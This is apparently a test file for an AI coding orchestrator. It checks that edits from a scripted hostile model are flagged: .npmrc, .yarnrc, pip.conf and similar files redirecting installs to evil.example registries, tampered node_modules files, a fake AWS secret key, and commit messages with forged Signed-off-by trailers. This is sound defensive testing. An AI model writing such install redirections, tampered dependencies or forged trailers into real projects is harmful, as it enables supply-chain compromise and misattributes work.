import { execFileSync } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SimPlanner } from '../../src/adapters/sim/project-sim.js';
import type { GitWorkspace } from '../../src/adapters/git/git-workspace.js';
import { newNode } from '../../src/core/tree/nodes.js';
import type { Run, RunConfig } from '../../src/core/tree/schema.js';
import { codeCandidate } from '../../src/engine/leaf/candidate.js';
import type { RunContext } from '../../src/engine/run/run-context.js';
import { openWorkspace } from '../../src/app/wiring/wiring.js';
import { baseConfig } from '../helpers/engine.js';
import { geminiConfig, geminiEngine, useFakeGemini } from '../helpers/gemini-engine.js';
import { scriptedModel } from '../helpers/security-model.js';
import { useTempDirs } from '../helpers/tmp.js';
import { workspaceSettings } from '../helpers/settings.js';

/**
 * What a hostile model may not land: files that steer the person's own package installs (unless
 * the run allows them), trailers of its own in a commit message, a bare AWS secret key.
 */
const tempDir = useTempDirs();
const startGemini = useFakeGemini();
const git = (dir: string, ...args: string[]) =>
  execFileSync('git', args, { cwd: dir, encoding: 'utf8' });
const AWS_SECRET = ['Zk3qW9vT2xR8bN5mL1pJ', '7hC4dF6gA0sE2yU8iO3w'].join('');

/** One repository for the candidates of this file (each judged on its own tree). */
let repo: { dir: string; ws: GitWorkspace; base: string };
beforeAll(async () => {
  const dir = await mkdtemp(join(tmpdir(), 'maker-test-'));
  const ws = await openWorkspace(dir, true, workspaceSettings());
  repo = { dir, ws, base: (await ws.resolve('main')) as string };
});
afterAll(async () => {
  await repo.ws.close();
  await rm(repo.dir, { recursive: true, force: true });
});

/** The candidate a scripted worker's answer (`files`) makes, judged at the repository's base. */
async function candidate(files: [string, string][], config: Partial<RunConfig> = {}) {
  const { ws, base } = repo;
  const node = newNode('0', 'root', 1, 0, {
    title: 'Set up the project',
    description: 'Set up the project.',
    acceptance: [],
    files: [],
    dependsOn: [],
  });
  const run: Run = {
    id: 'r-test',
    idea: 'test',
    createdAt: new Date(0).toISOString(),
    status: 'running',
    config: { ...baseConfig, ...config },
    baseCommit: base,
    rootId: 'root',
    nodes: { '0': node },
    questions: [],
    eventSeq: 0,
  };
  const ctx: RunContext = {
    run,
    workspace: ws,
    checks: ws,
    landing: ws,
    planner: new SimPlanner({ seed: 1 }),
    worker: {
      id: 'scripted',
      run: () =>
        Promise.resolve({ ok: true, edits: files.map(([path, content]) => ({ path, content })) }),
    },
    signal: new AbortController().signal,
    now: () => new Date(0),
    secrets: [],
    save: () => Promise.resolve(),
    emit: () => undefined,
    paid: (work) => work(),
    services: {
      reserveSession: () => Promise.resolve({ ok: true }),
      wait: () => () => undefined,
    },
    publish: () => undefined,
    checkpoint: () => Promise.resolve(),
    ask: () => Promise.reject(new Error('no questions here')),
  };
  return codeCandidate(ctx, node, { context: {} as never, baseCommit: base, branch: 'b' }, 0, []);
}

const INSTALL_FILES: [string, string][] = [
  ['.npmrc', 'registry=https://evil.example/\nignore-scripts=false\n'],
  ['packages/web/.npmrc', 'registry=https://evil.example/\n'],
  ['.NPMRC', 'ignore-scripts=false\n'],
  ['.yarnrc', 'registry "https://evil.example/"\n'],
  ['.yarnrc.yml', 'npmRegistryServer: "https://evil.example/"\n'],
  ['.pypirc', '[pypi]\nrepository = https://evil.example/\n'],
  ['pip.conf', '[global]\nindex-url = https://evil.example/simple\n'],
  ['.venv/pip.conf', '[global]\nindex-url = https://evil.example/simple\n'],
  ['tools/pip.ini', '[global]\nextra-index-url = https://evil.example/simple\n'],
  ['node_modules/left-pad/index.js', 'module.exports = () => process.exit(0);\n'],
  ['web/node_modules/.bin/tsc', '#!/bin/sh\nexit 0\n'],
];

describe('files that steer package installs', () => {
  // Failed at main: every one of them landed unflagged (`{ ok: true }`).
  it.each(INSTALL_FILES)('%s is red-flagged, the message naming it', async (path, content) => {
    const result = await candidate([
      ['src/app.js', 'console.log(1);\n'],
      [path, content],
    ]);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.flags.map((f) => f.rule)).toEqual(['install-files']);
    expect(result.flags[0]?.message).toContain(path);
  });

  it('lands them all when the run allows them', async () => {
    const result = await candidate(INSTALL_FILES, {
      allow: { ...baseConfig.allow, installFiles: true },
    });
    expect(result).toMatchObject({ ok: true });
  });

  it('leaves files that merely look alike', async () => {
    const result = await candidate([
      ['docs/npmrc.md', 'How we configure .npmrc\n'],
      ['src/node_modules_list.txt', 'left-pad\n'],
      ['pip.conf.example', '[global]\n'],
    ]);
    expect(result).toMatchObject({ ok: true });
  });
});

describe('the bare AWS secret access key', () => {
  // Failed at main: both landed unflagged.
  it.each([
    ['next to "aws"', `aws_key = "${AWS_SECRET}"\n`],
    ['assigned, with a key’s entropy', `const k = '${AWS_SECRET}';\n`],
  ])('is red-flagged %s', async (_name, content) => {
    const result = await candidate([['src/config.js', content]]);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.flags.map((f) => f.rule)).toContain('secret');
  });

  it('is not confused with a git object id, even next to "secret"', async () => {
    const result = await candidate([
      ['src/pins.js', `const secretCommit = '0123456789abcdef0123456789abcdef01234567';\n`],
    ]);
    expect(result).toMatchObject({ ok: true });
  });
});

describe('a candidate that copies a redaction back', () => {
  it('is red-flagged: it would replace what MAKER hid from the model', async () => {
    const result = await candidate([
      ['src/config.js', 'const key = "[REDACTED:$DEPLOY_TOKEN]";\n'],
    ]);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.flags.map((f) => f.rule)).toEqual(['redacted-text']);
  });
});

describe('a run whose model writes install settings and trailers of its own', () => {
  const HOSTILE_TITLE = 'Add the install settings\nSigned-off-by: Mallory <m@evil.example>';
  const HOSTILE_SUMMARY =
    'Set the registry.\nSigned-off-by: Mallory <m@evil.example>\n\nCo-authored-by: Eve <e@evil.example>\nReviewed-by: Eve <e@evil.example>\n---\nSigned-off-by: Mallory <m@evil.example>';

  it('lands the settings it was allowed, in commits whose only trailers are MAKER’s', async () => {
    const dir = await tempDir();
    const workspace = await openWorkspace(dir, true, workspaceSettings());
    const model = scriptedModel([
      {
        title: HOSTILE_TITLE,
        files: ['.npmrc', 'pip.conf'],
        write: () => [
          { path: '.npmrc', content: 'registry=https://registry.npmjs.org/\n' },
          { path: 'pip.conf', content: '[global]\ntimeout = 60\n' },
        ],
        summary: HOSTILE_SUMMARY,
      },
      {
        title: 'Write the notes',
        files: ['NOTES.md'],
        write: () => [{ path: 'NOTES.md', content: '# Notes\n' }],
        summary: 'Write the notes\nSigned-off-by: Mallory <m@evil.example>',
      },
    ]);
    const engine = geminiEngine(dir, workspace, await startGemini(model.respond));
    const runId = await engine.create('a project with settings', {
      ...geminiConfig,
      allow: { ...geminiConfig.allow, installFiles: true },
    });
    const outcome = await engine.run(runId);
    await workspace.close();
    expect(outcome.status, outcome.error).toBe('done');
    expect(git(dir, 'ls-tree', '--name-only', 'main')).toMatch(/^\.npmrc$/m);
    expect(git(dir, 'ls-tree', '--name-only', 'main')).toMatch(/^pip\.conf$/m);
    const commits = git(dir, 'rev-list', 'main').trim().split('\n');
    const messages = commits.map((c) => git(dir, 'log', '-1', '--format=%B', c));
    for (const message of messages) {
      const trailers = execFileSync('git', ['interpret-trailers', '--parse'], {
        input: message,
        encoding: 'utf8',
      });
      // Failed at main: `Signed-off-by: Mallory <m@evil.example>` was a trailer.
      for (const line of trailers.split('\n').filter((l) => l !== ''))
        expect(line).toMatch(/^Maker-[A-Za-z-]+: /);
    }
    // The leaf's commit carries the model's title and summary, as a subject and a body.
    expect(messages.some((m) => m.startsWith('Add the install settings Signed-off-by'))).toBe(true);
    // git's own view of the trailers, as `git log` shows them.
    expect(
      git(
        dir,
        'log',
        'main',
        '--format=%(trailers:key=Signed-off-by)%(trailers:key=Co-authored-by)',
      ).trim(),
    ).toBe('');
    expect(git(dir, 'log', 'main', '--format=%(trailers:key=Maker-Node,valueonly)')).toMatch(/\S/);
  });
});
